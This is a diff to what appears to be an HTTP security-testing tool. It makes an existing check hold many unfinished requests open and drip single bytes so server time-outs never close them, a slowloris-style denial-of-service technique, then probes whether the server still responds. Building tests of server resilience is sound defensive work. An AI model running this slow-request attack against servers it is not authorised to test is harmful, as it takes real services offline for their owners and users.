@@ -25,6 +25,10 @@ ENDLESS: Final = 32
 SERVER_ERROR: Final = 500
 """The first status that blames the server."""
 
+SLOW: Final = 3
+DRIP: Final = 0.005
+"""Further bytes of each unfinished request, and seconds between two bytes."""
+
 ANSWER: Final = 3.0
 """Seconds for the answers to two requests; both are short."""
 
@@ -232,11 +236,16 @@ def _never_end(session: AttackSession, caller: HttpCaller) -> None:
     if not control.answered:
         found, at = refusal(session.wire.transcript.exchanges), control
     with contextlib.ExitStack() as opened:
+        held = []
         for data in _beginnings(session, caller):
             with contextlib.suppress(OSError):
-                connection = opened.enter_context(caller.connect(ANSWER))
-                connection.settimeout(ANSWER)
-                connection.sendall(data)
+                held.append(opened.enter_context(caller.connect(ANSWER)))
+                held[-1].settimeout(ANSWER)
+                held[-1].sendall(data)
+        for connection in held * SLOW:  # a byte now and then, so that no time-out ends it
+            with contextlib.suppress(OSError):
+                connection.sendall(b" ")
+            sleep(DRIP)
         session.wire.transcript.happened(f"we hold {UNFINISHED} unfinished requests open")
         reply = session.wire.probe(seconds=max(20.0, session.pace.reply), required=False)
         if not reply.answered and not found:
